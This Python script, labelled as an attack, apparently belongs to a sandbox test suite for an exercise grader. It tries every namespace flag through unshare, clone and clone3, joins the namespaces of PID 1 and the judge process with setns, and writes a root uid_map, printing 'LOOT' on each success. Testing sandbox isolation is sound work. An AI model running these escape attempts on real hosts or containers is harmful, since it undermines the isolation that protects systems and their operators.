# attack: makes namespaces of its own, in which it would be root: unshare, clone, clone3, setns
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import ctypes
import os
import platform

libc = ctypes.PyDLL(None, use_errno=True)
CLONE, UNSHARE = {"x86_64": (56, 272), "aarch64": (220, 97)}[platform.machine()]
FLAGS = {"time": 0x80, "mount": 0x20000, "cgroup": 0x2000000, "uts": 0x4000000, "ipc": 0x8000000, "user": 0x10000000, "pid": 0x20000000, "net": 0x40000000}
for name, flag in FLAGS.items():
    for other in (0, 0x10000000, 1 << 32, 1 << 63):  # with a user namespace; with bits that only 64 bits have
        said = []
        if libc.syscall(UNSHARE, ctypes.c_ulong(flag | other)) == 0:
            print("LOOT: unshare", name)
        said.append(os.strerror(ctypes.get_errno()))
        if name != "time":  # clone has no flag for it
            child = libc.syscall(CLONE, ctypes.c_ulong(flag | other | 17), None, None, None, None)
            if child == 0:
                os._exit(0)
            if child > 0:
                print("LOOT: clone", name)
            said.append(os.strerror(ctypes.get_errno()))
        arguments = (ctypes.c_uint64 * 11)(flag | other & 0xFFFFFFFF, 0, 0, 0, 17)
        child = libc.syscall(435, arguments, ctypes.c_size_t(88))
        if child == 0:
            os._exit(0)
        if child > 0:
            print("LOOT: clone3", name)
        print(name, said, os.strerror(ctypes.get_errno()))
for pid in ("1", "self", "@PID@", "@JUDGE@", str(os.getppid())):
    for kind in ("mnt", "net", "pid", "user", "ipc", "pid_for_children"):
        try:
            fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            print("LOOT: setns" if libc.setns(fd, 0) == 0 else os.strerror(ctypes.get_errno()), pid, kind)
        except OSError as error:
            said = error.strerror
try:
    with open("/proc/self/uid_map", "w") as file:
        file.write(f"0 {os.getuid()} 1")
except OSError as error:
    print(error)
print("TRIED", said)
